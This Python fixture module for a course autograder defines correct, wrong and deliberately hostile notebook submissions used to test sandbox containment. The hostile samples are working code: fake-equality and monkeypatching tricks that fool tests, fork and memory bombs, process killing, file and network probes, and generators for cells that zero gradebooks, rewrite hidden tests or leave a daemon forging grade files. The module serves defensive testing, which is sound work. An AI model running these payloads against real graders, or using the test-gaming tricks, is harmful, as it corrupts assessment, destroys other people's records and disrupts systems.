"""Submissions for the fake exercise ``00_fake``: a correct one, wrong ones and hostile ones.

Each submission is a list of code-cell sources; ``write_notebook`` stores it as an .ipynb.
``HOSTILE`` maps a name to (cells, the tests it must NOT pass). The hostile ones define correct
code for everything they do not attack, so a zero on the attacked tests and full points on the
rest shows that the attack was contained without collateral damage.
"""

from __future__ import annotations

import json
from pathlib import Path

INSTALL = """\
try:
    import vitcourse
except ImportError:
    %pip install -q vitcourse
"""

DOUBLE = """\
import torch

def double(x):
    return x * 2
"""

COUNT = """\
def count_positive(x):
    return int((x > 0).sum())
"""

SCALE = """\
import torch
from torch import nn

class Scale(nn.Module):
    def __init__(self, dim):
        super().__init__()
        if dim < 1:
            raise ValueError(f"dim must be >= 1, got {dim}")
        self.weight = nn.Parameter(torch.ones(dim))

    def forward(self, x):
        return x * self.weight
"""

CORRECT = [INSTALL, "%matplotlib inline\n!echo hello", DOUBLE, COUNT, SCALE,
           "print('double of 2 is', double(torch.tensor(2)))"]
ALL_TESTS = {"test_double_float", "test_double_int", "test_count_positive", "test_scale_module",
             "test_scale_rejects_zero"}
MAX_SCORE = 7.0

WRONG = {
    # off by one everywhere
    "wrong_values": [DOUBLE.replace("x * 2", "x * 2 + 1"), COUNT.replace("> 0", ">= -1"), SCALE],
    # returns float for ints, a float count, forgets the ValueError
    "wrong_types": [DOUBLE.replace("x * 2", "x.double() * 2"), COUNT.replace("int(", "float("),
                    SCALE.replace("if dim < 1:", "if False:")],
    # nothing defined but Scale; an error in the first cell
    "missing": ["raise RuntimeError('oops')", SCALE],
}
WRONG_FAILS = {
    "wrong_values": {"test_double_float", "test_double_int", "test_count_positive"},
    "wrong_types": {"test_double_int", "test_count_positive", "test_scale_rejects_zero"},
    "missing": {"test_double_float", "test_double_int", "test_count_positive"},
}

GOOD = [DOUBLE, COUNT, SCALE]

HOSTILE = {
    # nbgrader-style: hide failures in try/except, exit early "successfully"
    "try_except": ([DOUBLE.replace("x * 2", "x * 3"),
                    "try:\n    assert False\nexcept BaseException:\n    pass", COUNT, SCALE,
                    "import sys\nsys.excepthook = lambda *a: None"],
                   {"test_double_float", "test_double_int"}),
    "lying_eq": ([COUNT, SCALE, """\
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
def double(x):
    return Anything()
"""], {"test_double_float", "test_double_int"}),
    "int_subclass_count": ([DOUBLE, SCALE, """\
class Yes(int):
    def __eq__(self, other): return True
def count_positive(x):
    return Yes(-1)
"""], {"test_count_positive"}),
    "tensor_subclass": ([COUNT, SCALE, """\
import torch
class Liar(torch.Tensor):
    def __eq__(self, other): return True
def double(x):
    return (x * 5).as_subclass(Liar)
"""], {"test_double_float", "test_double_int"}),
    "monkeypatch": ([COUNT, SCALE, """\
import torch, builtins
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isfinite = lambda x: torch.ones_like(x, dtype=torch.bool)
torch.Tensor.__eq__ = lambda *a, **k: True
builtins.all = lambda *a: True
def double(x):
    return x * 7
"""], {"test_double_float", "test_double_int"}),
    # breaking the worker's own Python only costs this student their own points
    "break_builtins": (GOOD + ["import builtins\nbuiltins.isinstance = lambda *a: True\n"
                               "builtins.type = lambda *a: int"], ALL_TESTS),
    "sys_exit": (GOOD + ["import sys\nsys.exit(0)"], set()),  # SystemExit in a cell: recorded
    "os_exit_at_import": (["import os\nos._exit(0)"] + GOOD, ALL_TESTS),
    "os_exit_in_call": ([COUNT, SCALE, "import os\ndef double(x):\n    os._exit(0)"],
                        {"test_double_float", "test_double_int"}),
    "infinite_loop_call": ([COUNT, SCALE, "def double(x):\n    while True:\n        pass"],
                           {"test_double_float", "test_double_int"}),
    "infinite_loop_import": (GOOD + ["while True:\n    pass"], ALL_TESTS),
    "memory_bomb": ([COUNT, SCALE, """\
def double(x):
    hog = []
    while True:
        hog.append(bytearray(50 * 1024 * 1024))
"""], {"test_double_float", "test_double_int"}),
    "fork_bomb": ([COUNT, SCALE, """\
import os
def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""], {"test_double_float", "test_double_int"}),
    "output_flood": ([COUNT, SCALE, """\
import sys
def double(x):
    chunk = "x" * 65536
    while True:
        sys.stdout.write(chunk)
"""], {"test_double_float", "test_double_int"}),
    # kills its parent (the zygote); the attack costs only its own tests. (Not os.kill(-1): in a
    # test run without the sandbox, as root, that would kill every process on the machine.)
    "kill_parent": ([COUNT, SCALE, """\
import os, signal
def double(x):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    return x * 2 + 1
"""], {"test_double_float", "test_double_int"}),
    "huge_tensor": ([COUNT, SCALE, """\
import torch
def double(x):
    return torch.zeros(300 * 1024 * 1024, dtype=torch.uint8)
"""], {"test_double_float", "test_double_int"}),
}
# not an attack: a correct answer that is a view into a 200 MB storage must pass (only the
# view's values travel back)
HUGE_VIEW = GOOD[1:] + ["""\
import torch
_big = torch.zeros(200 * 1024 * 1024 // 8, dtype=torch.float64)
def double(x):
    flat = _big[: x.numel()].to(x.dtype) if x.dtype != torch.float64 else _big[: x.numel()]
    flat.copy_(x.flatten() * 2)
    return flat.view_as(x)
"""]
# attacks that must not see the trusted side; checked by the probe tests, not by scores
PROBE = """\
import os, socket, json
def probe(paths):
    seen = {}
    for p in paths:
        try:
            with open(p, 'rb') as f:
                seen[p] = 'read %d bytes' % len(f.read())
        except Exception as e:
            seen[p] = type(e).__name__
        try:
            seen[p + ' (listdir)'] = 'listed %d' % len(os.listdir(os.path.dirname(p) or '.'))
        except Exception as e:
            seen[p + ' (listdir)'] = type(e).__name__
    return seen

def try_write(paths):
    out = {}
    for p in paths:
        try:
            with open(p, 'w') as f:
                f.write('pwned')
            out[p] = 'written'
        except Exception as e:
            out[p] = type(e).__name__
    return out

def try_network():
    try:
        socket.create_connection(('1.1.1.1', 53), timeout=2)
        return 'connected'
    except Exception as e:
        return type(e).__name__

def env():
    return dict(os.environ)

def interfaces():
    return sorted(name for _, name in socket.if_nameindex())

def uid():
    return os.getuid()

def pids():
    return sorted(int(p) for p in os.listdir('/proc') if p.isdigit())
"""

# leaves files, a daemon process and modified modules behind for the next student to find
LEAKER = """\
import os, sys, time, torch
for path in ('/tmp/leak.txt', os.path.expanduser('~/leak2.txt'), '/dev/shm/leak3.txt'):
    with open(path, 'w') as f:
        f.write('left behind')
torch.pi_was_here = True
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(60)
    os._exit(0)
"""


def notebook_json(cells: list[str], metadata: dict | None = None, tags: dict | None = None) -> dict:
    tags = tags or {}
    return {
        "nbformat": 4, "nbformat_minor": 5,
        "metadata": metadata or {"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                "language": "python"}},
        "cells": [{"cell_type": "markdown", "metadata": {}, "source": ["# Exercise 00\n"]}] + [
            {"cell_type": "code", "execution_count": None, "outputs": [], "id": f"c{i}",
             "metadata": {"tags": tags.get(i, [])}, "source": src.splitlines(keepends=True)}
            for i, src in enumerate(cells)],
    }


def write_notebook(path: Path, cells: list[str], **kwargs) -> Path:
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(notebook_json(cells, **kwargs), indent=1))
    return path


# -- attacks on the trusted side's files, for a grader running without a sandbox ------------------
# Each takes the folders the attack searches (see as_user.OrdinaryUser.attack_roots) and returns a
# cell that does its damage when the notebook runs; the rest of the notebook is correct code.

def zero_every_gradebook(roots: list[str]) -> str:
    """Set every score of every gradebook.sqlite it can find to zero."""
    return f"""\
import os, sqlite3
for root in {roots!r}:
    for folder, _, files in os.walk(root):
        if 'gradebook.sqlite' in files:
            try:
                db = sqlite3.connect(os.path.join(folder, 'gradebook.sqlite'), timeout=5)
                db.execute('UPDATE submissions SET score = 0')
                db.execute('UPDATE results SET points = 0')
                db.commit()
                db.close()
            except Exception:
                pass
"""


def rewrite_hidden_tests(roots: list[str], name: str = "test_00_fake.py") -> str:
    """Replace every hidden-test file called ``name`` with tests that pass whatever the code does."""
    return f"""\
import os
for root in {roots!r}:
    for folder, _, files in os.walk(root):
        if {name!r} in files:
            try:
                with open(os.path.join(folder, {name!r}), 'w') as f:
                    f.write('from vitcourse.grading.hidden import points\\n'
                            'EXERCISE = "00_fake"\\n'
                            '@points(7)\\n'
                            'def test_everything(student):\\n'
                            '    \"\"\"Everything passes.\"\"\"\\n')
            except OSError:
                pass
"""


def daemon_rewrites_exports(roots: list[str], me: str, suffix: str = "grades.csv",
                            seconds: int = 120) -> str:
    """Leave a daemon behind (double fork, new session), after killing the worker template that
    would otherwise collect it. For ``seconds`` it rewrites every file whose name ends with
    ``suffix`` (grades.csv, or .json for the results files) each time one appears or changes:
    ``me`` gets full marks, everybody else zero."""
    return f"""\
import os, signal, time, json

def forge(path, text):
    if path.endswith('.csv'):
        rows = [line.split(',') for line in text.splitlines()]
        for row in rows[1:]:
            row[2] = row[3] if row[0] == {me!r} else '0'
        return '\\n'.join(','.join(row) for row in rows) + '\\n'
    data = json.loads(text)
    data['score'] = 0
    return json.dumps(data)

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        seen = {{}}
        end = time.time() + {seconds}
        while time.time() < end:
            for root in {roots!r}:
                for folder, _, files in os.walk(root):
                    for name in files:
                        path = os.path.join(folder, name)
                        try:
                            if not name.endswith({suffix!r}) or seen.get(path) == os.stat(path).st_mtime_ns:
                                continue
                            forged = forge(path, open(path).read())
                            with open(path, 'w') as f:
                                f.write(forged)
                            seen[path] = os.stat(path).st_mtime_ns
                        except Exception:
                            pass
            time.sleep(0.1)
    os._exit(0)
time.sleep(0.2)
os.kill(os.getppid(), signal.SIGKILL)  # the worker template: what it leaves is no longer its own
"""
